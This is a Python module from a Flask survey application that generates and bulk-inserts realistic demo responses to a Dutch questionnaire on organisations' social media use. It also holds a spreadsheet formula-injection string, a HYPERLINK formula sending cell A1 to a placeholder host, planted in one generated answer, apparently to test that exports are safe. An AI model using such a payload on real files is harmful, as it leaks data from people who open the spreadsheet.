"""Plausible demo responses, bulk-inserted: `flask --app wsgi demo --responses N`.

Answers follow the definition generically (any survey works, also a benchmark's), with known
keys getting realistic shares: a sector mix for `soort_dienst`, regions and sizes, today's channel
use for `kanalen`. Likert answers share one latent "digital engagement" score per respondent, so
they correlate. Conditions are respected through `prune_hidden`. Rows go in with executemany in
chunks (one statement per table per chunk), not through the ORM.
"""

from __future__ import annotations

import datetime as dt
import math
import random
import time
from bisect import bisect
from pathlib import Path

from sqlalchemy import select

from app.extensions import db
from app.surveys.definitions import evaluate
from app.surveys.models import Survey, SurveyVersion, random_response_id
from app.surveys.wide import encode, version_layout

CHUNK = 5_000
REBUILD_INDEX_FROM = 5_000
ANSWER_INDEX = "ix_answers_survey_variable_num"
# Shares by option code of well-known profile questions (codes of surveys/herbevraging-2026.yaml).
PROFILE_WEIGHTS = {
    "soort_dienst": {1: 24, 2: 6, 3: 20, 4: 10, 5: 6, 6: 12, 7: 8, 8: 4, 9: 5, 10: 5},
    "regio": {1: 27, 2: 13, 3: 22, 4: 17, 5: 18, 6: 3},
    "grootte": {1: 18, 2: 34, 3: 24, 4: 17, 5: 7},
    "sns_gebruik": {1: 84, 2: 9, 3: 7},
}
# Share of organisations on a channel today, by option label (lower case).
CHANNEL_SHARES = {
    "facebook": 0.88,
    "linkedin": 0.62,
    "x (twitter)": 0.28,
    "instagram": 0.66,
    "tiktok": 0.14,
    "whatsapp": 0.41,
    "youtube": 0.33,
    "mastodon of bluesky": 0.09,
    "snapchat": 0.05,
    "threads": 0.06,
}
TEXTS = (
    "We posten elke week een verhaal van een vrijwilliger; dat werkt beter dan aankondigingen.",
    "Onze WhatsApp-groep voor jongeren wordt goed gebruikt, ook buiten de kantooruren.",
    "Een vaste beheerder per kanaal maakt het verschil.",
    "Meer vorming over privacy zou ons helpen.",
    "We zijn gestopt met X: geen reacties meer.",
    "Instagram-stories met tips rond budget bereiken een nieuwe groep.",
)
INJECTION_TEXT = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik hier")'


class _Generator:
    """Draws one answers dict per call for one definition (seeded, so runs are repeatable).

    Walks pages and questions in order and evaluates each `show_if` against the answers drawn so
    far, the same walk as `prune_hidden`, so hidden questions are never answered.
    """

    def __init__(self, definition, rng: random.Random):
        self.definition = definition
        self.rng = rng
        meta = random.Random(definition.slug)  # per-variable parameters stable across runs
        self.params: dict[str, object] = {}
        self.pages = [
            (page.show_if, [(q, q.show_if, q.required, q.variables()) for q in page.questions])
            for page in definition.pages
        ]
        for var in definition.variables():
            if var.type in ("single_choice",):
                codes = [o.code for o in var.options]
                weights = PROFILE_WEIGHTS.get(var.name)
                if weights is None:
                    weights = {c: meta.uniform(0.5, 3.0) for c in codes}
                cum, total = [], 0.0
                for c in codes:
                    total += weights.get(c, 0.5)
                    cum.append(total)
                self.params[var.name] = (codes, cum)
            elif var.type == "likert":
                self.params[var.name] = (meta.uniform(-0.6, 0.6), meta.choice((0.6, 0.9, -0.5)))
            elif var.type == "multiple_choice":
                shares = []
                for option in var.options:
                    share = CHANNEL_SHARES.get(option.label.nl.lower().split(" (")[0])
                    if share is None:
                        share = CHANNEL_SHARES.get(option.label.nl.lower(), meta.uniform(0.08, 0.55))
                    shares.append((option.code, share))
                self.params[var.name] = shares

    def answers(self, index: int) -> dict:
        rng, out, definition = self.rng, {}, self.definition
        engagement = rng.gauss(0.0, 1.0)
        for page_if, questions in self.pages:
            if page_if is not None and not evaluate(page_if, out, definition):
                continue
            for _question, show_if, required, variables in questions:
                if show_if is not None and not evaluate(show_if, out, definition):
                    continue
                if not required and rng.random() < 0.08:
                    continue
                for var in variables:
                    value = self._value(var, engagement, index)
                    if value is not None:
                        out[var.name] = value
        return out

    def _value(self, var, engagement: float, index: int):
        rng, kind = self.rng, var.type
        if kind == "likert":
            offset, loading = self.params[var.name]
            if var.question.dont_know and rng.random() < 0.04:
                return 9
            raw = 3.2 + offset + loading * engagement + rng.gauss(0.0, 0.8)
            return 1 if raw < 1.5 else 5 if raw >= 4.5 else int(raw + 0.5)
        if kind == "single_choice":
            codes, cum = self.params[var.name]
            return codes[bisect(cum, rng.random() * cum[-1])]
        if kind == "multiple_choice":
            lift = 0.08 * engagement
            chosen = [c for c, share in self.params[var.name] if rng.random() < share + lift]
            if not chosen and (var.question.min_choices or 0) > 0:
                chosen = [self.params[var.name][0][0]]
            if var.question.max_choices:
                chosen = chosen[: var.question.max_choices]
            return chosen or None
        if kind == "ranking":
            codes = [o.code for o in var.options]
            rng.shuffle(codes)
            return codes
        if kind == "number":
            return self._number(var.question)
        if kind == "date":
            low = dt.date.fromisoformat(str(var.question.min or "2005-01-01"))
            high = min(dt.date.fromisoformat(str(var.question.max or "2026-01-01")), dt.date(2026, 1, 1))
            return (low + dt.timedelta(days=rng.randrange(max(1, (high - low).days)))).isoformat()
        if var.is_other:
            return "Discord-server" if rng.random() < 0.03 else None
        # short and long text: a few answer, one of them tries formula injection
        if index == 7:
            return INJECTION_TEXT
        if rng.random() < 0.12:
            return rng.choice(TEXTS)[: var.question.max_length or 200]
        return None

    def _number(self, question):
        low = float(question.min if question.min is not None else 0)
        high = float(question.max if question.max is not None else 1000)
        value = min(high, max(low, low + math.exp(self.rng.gauss(1.6, 1.0))))
        return round(value) if question.integer else round(value, 1)


def _rows(definition, answers: dict, rid: int, survey_id: int) -> list[tuple]:
    """Answer rows as tuples (the storage contract of `answers_to_rows`, without dicts)."""
    rows = []
    for name, value in answers.items():
        kind = definition.variable(name).type
        if kind == "multiple_choice":
            rows.extend((rid, name, c, survey_id, float(c), None) for c in value)
        elif kind == "ranking":
            rows.extend((rid, name, c, survey_id, float(pos), None) for pos, c in enumerate(value, 1))
        elif isinstance(value, str):
            rows.append((rid, name, 0, survey_id, None, value))
        else:
            rows.append((rid, name, 0, survey_id, float(value), None))
    return rows


def generate_responses(version: SurveyVersion, n: int, *, seed: int = 2026, organisation_ids=()) -> int:
    """Insert `n` plausible responses for `version`; flushes nothing through the ORM, never commits.

    `organisation_ids` (non-anonymous versions only) are assigned round-robin. Response ids are
    random as always, but inserted in ascending order so the primary-key index only grows at its
    right edge (several times faster on SQLite). Returns n.
    """
    definition = version.definition
    layout = version_layout(version)
    rng = random.Random(seed)
    gen = _Generator(definition, rng)
    anonymous = version.anonymity == "anonymous"
    orgs = list(organisation_ids) if not anonymous else []
    today = dt.date.today()
    conn = db.session.connection()
    response_sql = (
        "INSERT INTO responses (id, survey_id, version_id, organisation_id, user_id, submitted_at, "
        "submitted_on, export_row) VALUES (?, ?, ?, ?, NULL, NULL, ?, ?)"
    )
    answer_sql = (
        "INSERT INTO answers (response_id, variable, item, survey_id, num, text) VALUES (?, ?, ?, ?, ?, ?)"
    )
    if conn.dialect.paramstyle != "qmark":
        response_sql = response_sql.replace("?", "%s")
        answer_sql = answer_sql.replace("?", "%s")
    ids = sorted({random_response_id() for _ in range(n)})
    while len(ids) < n:  # a collision among 2**53 ids: practically never
        ids = sorted(set(ids) | {random_response_id()})
    survey_id = version.survey_id
    # A big load is faster with the (survey, variable, num) index built once afterwards; DDL is
    # transactional on SQLite and PostgreSQL, so a failed load leaves the index in place.
    rebuild = n >= REBUILD_INDEX_FROM
    if rebuild:
        conn.exec_driver_sql(f"DROP INDEX {ANSWER_INDEX}")
    for start in range(0, n, CHUNK):
        responses, answers = [], []
        for i, rid in enumerate(ids[start : start + CHUNK], start):
            org = orgs[i % len(orgs)] if orgs else None
            day = today - dt.timedelta(days=rng.randrange(60))
            rows = _rows(definition, gen.answers(i), rid, survey_id)
            # exports' copy of the answers (app/surveys/wide.py), in the same INSERT
            row = encode(layout, [(r[1], r[2], r[4], r[5]) for r in rows])
            responses.append((rid, survey_id, version.id, org, day, row))
            answers.extend(rows)
        conn.exec_driver_sql(response_sql, responses)
        conn.exec_driver_sql(answer_sql, answers)
    if rebuild:
        conn.exec_driver_sql(f"CREATE INDEX {ANSWER_INDEX} ON answers (survey_id, variable, num)")
    return n


def demo_surveys() -> list[SurveyVersion]:
    """The current version of every questionnaire in SURVEYS_DIR, synced if not loaded yet."""
    from flask import current_app

    from app.surveys.loader import load_directory
    from app.surveys.versions import sync_definition

    directory = Path(current_app.config["SURVEYS_DIR"])
    if not directory.is_dir():
        return []
    _catalogue, definitions, _polls = load_directory(directory)
    versions = []
    for definition in definitions:
        survey = db.session.scalar(select(Survey).where(Survey.slug == definition.slug))
        if survey is None or not survey.versions:
            version, _outcome = sync_definition(definition, str(directory / f"{definition.slug}.yaml"))
            version.survey.results_public = True
        else:
            version = survey.current_version
        versions.append(version)
    return versions


def load_demo_responses(responses: int = 0, **_ignored) -> list[str]:
    """The demo loader: tops every demo survey up to `responses` generated answers (so running it
    twice adds nothing); returns lines to print, with the time taken."""
    from sqlalchemy import func

    from app.organisations.models import Organisation
    from app.surveys.models import Response

    versions = demo_surveys()
    db.session.commit()
    if responses <= 0:
        return [f"Surveys: {', '.join(v.survey.slug for v in versions) or '-'}"]
    org_ids = db.session.scalars(select(Organisation.id).order_by(Organisation.id)).all()
    lines = []
    for version in versions:
        have = db.session.scalar(select(func.count()).where(Response.survey_id == version.survey_id)) or 0
        missing = max(0, responses - have)
        started = time.perf_counter()
        generate_responses(version, missing, seed=random.randrange(1 << 30), organisation_ids=org_ids)
        db.session.commit()
        seconds = time.perf_counter() - started
        lines.append(
            f"{version.survey.slug}: {missing} responses generated in {seconds:.1f} s ({responses} in all)"
        )
    # What the result-tallies job would do within the minute: views are fast straight away.
    from app.results.tallies import fold_all

    started = time.perf_counter()
    fold_all()
    lines.append(f"result tallies: new responses counted in {time.perf_counter() - started:.1f} s")
    return lines
